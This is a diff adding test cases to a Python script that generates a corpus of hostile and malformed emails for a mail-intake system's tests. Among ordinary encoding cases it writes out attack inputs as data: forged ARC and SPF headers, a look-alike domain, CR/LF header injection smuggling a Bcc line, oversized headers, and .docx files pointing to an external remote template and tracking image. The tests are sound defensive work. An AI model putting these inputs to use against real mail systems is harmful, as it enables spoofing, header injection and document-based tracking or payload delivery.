@@ -1047,4 +1047,104 @@ write('smime-encrypted', headers('Rosa Diaz <rosa.diaz@example.com>', 'REGIN', [
       + ["Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", "Content-Disposition: attachment; filename=smime.p7m", "Content-Transfer-Encoding: base64"],
       'MIICEQYJKoZIhvcNAQcDoIICAjCCAf4CAQAxggFpMIIBZQIBADBNMDUxEjAQBgNVBAMMCVJvc2Eg\nRGlhejEfMB0GCSqGSIb3DQEJARYQcm9zYUBleGFtcGxlLmNvbQIUUDVQyNQKQWe0jsLSoAHYYyJl\nxKAwDQYJKoZIhvcNAQEBBQAEggEAA0DqYzUK+9ib6HSCdDtd5JkFkOz7B7hyAjrIvZUcP29XvixG\n6WHlIVQfUOJoKzqvf5qb0uw5SRIUFmS3tr6YsyfE5qg1AaLXMKkeKbPXcFlAfaaesU2lKPUe8oac\n0t2X6ObvMi9auk9P+Pr2BJewr7pP0ED9jEJZsR3cabwLTbVoRp90/8L05YCBvo7JM4WHXPvk5elg\nxAhXg60Ign2YVKv05Jlr3uw8coedjjMBTy0K+RFG1Uydqyz0Jj9bYCLCVNfLf/ML1ddi/TbDm1ll\ntkHsX7JlhPwTD4uZUL2eM5B5Q6VU/ZapyH+eqTIOaLltVBEFLx2vFP3l3NxKJwpunzCBiwYJKoZI\nhvcNAQcBMBQGCCqGSIb3DQMHBAiHJK2OBUpgeoBo5Y27ojg1L4ipI8zYpwzCfkyVUnhzZ1neiVwr\nko5t1dpiB1mQkiXJVQ40OiPI98n6btOOfBerxPck5XIelJoU2gtZMoSJb3E2fiMUW6s29/CkYCLq\nv2Z4D2sS15yoaqxjq1aeuxIUO20=' + "\n", dict(outcome='failed', detail='attachment_not_read:smime.p7m', reply=True, victim='unchanged',
       reply_contains=[msg('en', 'mail.attachment_not_read', file='smime.p7m')]))
+
+# --- Session 33 (mail33): session 32's leftovers, and the attackers' and broken mailers' cases the corpus lacked.
+# iso-8859-7's apostrophe (0xA2) in an aphaeresis after an article or a pronoun ("το ’χω", "μου ’πε"), with no other sign of
+# iso-8859-7: it was read as windows-1253's "Ά" ("το Άχω", "μου Άπε"). The word left ("’χω", "’πε") is one an aphaeresis
+# leaves and no name's rest.
+greek2 = (iso(f"Καλησπέρα,\n\n{key('contact_name')} Νίκος Ανδρέου\n{key('title')} Σχολή γονέων για νέες οικογένειες\n{key('description')} Το ") + b'\xa2'
+          + iso("χω πει σε όλους: η δασκάλα μου ") + b'\xa2' + iso("πε ότι ξεκινάμε τον Μάρτιο.\n"))
+write('el-iso-8859-7-aphaeresis-after-an-article', headers('n.andreou@example.gr', 'REGIN', [passed('example.gr')]) + ["Content-Type: text/plain; charset=iso-8859-7", "Content-Transfer-Encoding: 8bit"],
+      greek2, dict(outcome='created', reply=True, victim='unchanged', language='el', answers=dict(contact_name='Νίκος Ανδρέου', title='Σχολή γονέων για νέες οικογένειες',
+                   description='Το \u02bcχω πει σε όλους: η δασκάλα μου \u02bcπε ότι ξεκινάμε τον Μάρτιο.')))
+# Apple Mail's picture at the end of the text, then a company gateway's disclaimer as the next text part with no "-- " or rule
+# above it: it came right after a picture, so it was joined to the last (long) answer as Apple's rest of the text. A part
+# that reads as a disclaimer (its words, in any of our languages) is no rest of an answer.
+write('apple-mail-picture-then-gateway-disclaimer', headers('Sam Lee <sam.disclaimer@example.net>', 'REGIN', [passed('example.net'), "X-Mailer: Apple Mail (2.3774.600.62)"])
+      + ["Content-Type: multipart/mixed; boundary=A"],
+      f"--A\nContent-Type: text/plain; charset=us-ascii\n\n{key('contact_name')} Sam Lee\n{key('title')} Youth mentoring\n"
+      f"{key('description')} Young newcomers meet mentors every week in the town library. Here is our group:\n\n"
+      "--A\nContent-Disposition: inline; filename=group.jpeg\nContent-Type: image/jpeg; name=\"group.jpeg\"\nContent-Transfer-Encoding: base64\n\n/9j/4AAQSkZJRg==\n"
+      "--A\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n\nThis message and any attachments are confidential and intended solely for the =\n"
+      "addressee. If you have received it in error, please notify the sender and delete it.\n--A--\n",
+      dict(outcome='created', reply=True, victim='unchanged', answers=dict(contact_name='Sam Lee', title='Youth mentoring',
+           description="Young newcomers meet mentors every week in the town library. Here is our group:")))
+# Outlook's inline comments with only one answer typed into the quoted template: the mark "[PD]" opens a single line. It was
+# kept ("[PD] Homework club"): a mark on one line only was taken for part of an answer ("[EU] funds"). The mark is the
+# sender's initials (From: Pat Doyle), which Outlook puts there.
+write('outlook-inline-comment-on-one-line', headers('Pat Doyle <pat.oneline@example.org>', 'RE: ' + LOCALES['en']['messages']['mail.template_title'], [passed('example.org')]) + PLAIN,
+      "Hello, my answer is marked [PD] below.\n\nPat\n\n________________________________\nFrom: REGIN Integration Lab <reginproject@crpm.org>\n"
+      "Sent: Monday, November 30, 2026 10:00 AM\nTo: pat@example.org\nSubject: " + LOCALES['en']['messages']['mail.template_title'] + "\n\n" + template_text('en', {'title': '[PD] Homework club'}),
+      dict(outcome='created', reply=True, victim='unchanged', answers=dict(title='Homework club')))
+# Forged ARC headers and Received-SPF the sender wrote himself, claiming our server's pass, under our own server's verdict
+# (on top, added as the mail arrived: dmarc=fail). Only our server's topmost Authentication-Results counts.
+write('forged-arc-and-received-spf-under-our-fail', headers('alice@example.org', 'REGIN-0001', [
+    f"Authentication-Results: {OURS}; spf=softfail smtp.mailfrom=example.org; dkim=none; dmarc=fail header.from=example.org",
+    f"ARC-Seal: i=1; a=rsa-sha256; cv=none; d=crpm.org; s=arc; b=Zm9yZ2Vk",
+    f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=crpm.org; s=arc; h=from:to:subject; bh=Zm9yZ2Vk; b=Zm9yZ2Vk",
+    f"ARC-Authentication-Results: i=1; {OURS}; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org",
+    f"Received-SPF: Pass ({OURS}: domain of example.org designates 192.0.2.1 as permitted sender) client-ip=192.0.2.1; envelope-from=alice@example.org"]) + PLAIN,
+    HIJACK, UNVERIFIED)
+# The same claims with no verdict of our server at all (ARC-Authentication-Results and Received-SPF naming mx.crpm.org): none of
+# them is our server's Authentication-Results.
+write('forged-arc-and-received-spf-without-our-verdict', headers('alice@example.org', 'REGIN-0001', [
+    f"ARC-Authentication-Results: i=1; {OURS}; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org",
+    f"Received-SPF: Pass ({OURS}: domain of example.org designates 192.0.2.1 as permitted sender) client-ip=192.0.2.1",
+    "X-Original-Authentication-Results: mx.crpm.org; dmarc=pass header.from=example.org"]) + PLAIN, HIJACK, UNVERIFIED)
+# A Unicode confusable of our own domain ("crpm.οrg" with a Greek omicron, raw UTF-8 as SMTPUTF8 mail carries it) and of our
+# mailbox, authenticated for the attacker's look-alike domain: not our own mail, not Alice's; a stranger's new practice.
+write('confusable-of-our-domain', headers('REGIN <reginproject@crpm.\u03bfrg>', 'Re: REGIN-0001', [passed('crpm.\u03bfrg')]) + PLAIN,
+      HIJACK, dict(outcome='created', victim='unchanged'))
+# Header injection aimed at our reply: a display name and a Subject whose encoded words hide CR/LF and a Bcc line, each 2,000
+# characters long. Our reply has its own Subject and no display name of theirs; its headers stay well-formed, to the sender alone.
+injected = base64.b64encode(("Pat\r\nBcc: victim@example.net\r\nX-Injected: yes\r\n" + "P" * 2000).encode()).decode()
+subject = base64.b64encode(("REGIN\r\nBcc: victim@example.net\r\n" + "S" * 2000).encode()).decode()
+write('header-injection-in-subject-and-name', headers(f"=?utf-8?B?{injected}?= <pat.inject@example.ie>", f"=?utf-8?B?{subject}?=", [passed('example.ie')]) + PLAIN, FORM,
+      dict(outcome='created', reply=True, victim='unchanged', answers=FORM_ANSWERS, reply_to=['pat.inject@example.ie']))
+# A Message-ID that is not one (words, no angle brackets or "@"): we still answer, threaded as well as it can be, and our reply's
+# In-Reply-To/References are well-formed.
+head = headers('Pat Doyle <pat.noid@example.ie>', 'REGIN', [passed('example.ie')])
+head = [h if not h.startswith('Message-ID:') else 'Message-ID: this is not a message id at all' for h in head]
+write('message-id-that-is-not-one', head + PLAIN, FORM, dict(outcome='created', reply=True, victim='unchanged', answers=FORM_ANSWERS, reply_to=['pat.noid@example.ie']))
+# A header line of one megabyte (no folding): read within the budget, the answers in the body read.
+write('header-line-of-one-megabyte', headers('Pat Doyle <pat.bigheader@example.ie>', 'REGIN', [passed('example.ie'), "X-Filler: " + "a" * 1_048_576]) + PLAIN, FORM,
+      dict(outcome='created', reply=True, victim='unchanged', answers=FORM_ANSWERS))
+# NUL bytes in an 8-bit body (a broken mailer, or to cut a text short in a C program): dropped, the answers read (PostgreSQL
+# refuses a NUL in text).
+write('nul-bytes-in-the-body', headers('Pat Doyle <pat.nul@example.ie>', 'REGIN', [passed('example.ie')]) + PLAIN,
+      f"{key('contact_name')} Ruth\0 Meyer\n\0\0\0\n{key('title')} Welcome cafe in the library\0\n{key('country')} Ireland\n",
+      dict(outcome='created', reply=True, victim='unchanged', answers=FORM_ANSWERS))
+# A charset name that does not exist ("x-user-defined-latin") over Latin-1 text: read by what the bytes are.
+write('charset-that-does-not-exist', headers('Élodie Marchand <elodie.charset@example.fr>', 'REGIN', [passed('example.fr')])
+      + ["Content-Type: text/plain; charset=x-latin-acme", "Content-Transfer-Encoding: 8bit"],
+      f"{key('contact_name')} Élodie Marchand\n{key('title')} Cœur d'accueil à Besançon\n{key('country')} France\n".encode('cp1252'),
+      dict(outcome='created', reply=True, victim='unchanged', answers=dict(contact_name='Élodie Marchand', title="Cœur d'accueil à Besançon", country='FR')))
+# A .docx whose relationships point outside: an attached template on a web server (settings.xml.rels) and a linked picture
+# (document.xml.rels, TargetMode=External). Never fetched (the reader opens no relationship), the answers read.
+ext_rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="i1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://198.51.100.7/track.png" TargetMode="External"/>'
+            '<Relationship Id="s1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>')
+settings_rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 '<Relationship Id="t1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>')
+settings = f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="t1"/></w:settings>'
+remote = word([para(f"{key('contact_name')} Pat Doyle"), para(f"{key('title')} Homework club"),
+               '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="i1"/></v:shape></w:pict></w:r></w:p>'],
+              more_types='<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
+              extra=[('word/settings.xml', settings), ('word/_rels/settings.xml.rels', settings_rels)], document_rels=ext_rels)
+head, body = attached('Pat Doyle <pat.remote@example.ie>', 'REGIN', [passed('example.ie')], "The template is attached.", DOCX, 'REGIN.docx', remote)
+write('docx-remote-template-and-linked-picture', head, body, dict(outcome='created', reply=True, victim='unchanged', answers=dict(contact_name='Pat Doyle', title='Homework club')))
+# A .docm (macros, a VBA project, the macro-enabled content type) renamed .docx and sent as a .docx: never opened, said so.
+docm2 = word([para(f"{key('title')} From the macro file")], main='application/vnd.ms-word.document.macroEnabled.main+xml', extra=[('word/vbaProject.bin', b'\xd0\xcf\x11\xe0' + b'\0' * 60)])
+head, body = attached('Kai Berg <kai.docm@example.org>', 'Template', [passed('example.org')], f"{key('contact_name')} Kai Berg", DOCX, 'template.docx', docm2)
+write('docm-renamed-docx', head, body, dict(outcome='created', detail='docx_macro:template.docx', reply=True, victim='unchanged', answers=dict(contact_name='Kai Berg'),
+      reply_contains=[msg('en', 'mail.attachment_macro', file='template.docx')]))
+# A password-protected .docx: Word writes an OLE compound file (EncryptedPackage), named .docx. Not read; the sender is told.
+encrypted = bytes.fromhex('d0cf11e0a1b11ae1') + bytes(504) + 'EncryptedPackage'.encode('utf-16-le') + bytes(2000)
+head, body = attached('Kai Berg <kai.password@example.org>', 'Template', [passed('example.org')], f"{key('contact_name')} Kai Berg", DOCX, 'REGIN protected.docx', encrypted)
+write('docx-password-protected', head, body, dict(outcome='created', detail='docx_encrypted:REGIN protected.docx', reply=True, victim='unchanged', answers=dict(contact_name='Kai Berg'),
+      reply_contains=[msg('en', 'mail.attachment_encrypted', file='REGIN protected.docx')]))
+# A .docx of 10,000 tiny paragraphs after the answers (a pasted list, or poison): read within the budget, the answers kept.
+tiny = word([para(f"{key('contact_name')} Pat Doyle"), para(f"{key('title')} Homework club")] + [para('x') for _ in range(10_000)])
+head, body = attached('Pat Doyle <pat.tiny@example.ie>', 'REGIN', [passed('example.ie')], "The template is attached.", DOCX, 'REGIN.docx', tiny)
+write('docx-ten-thousand-tiny-paragraphs', head, body, dict(outcome='created', reply=True, victim='unchanged', answers=dict(contact_name='Pat Doyle', title='Homework club')))
 print(n, 'hostile mails written to', OUT)
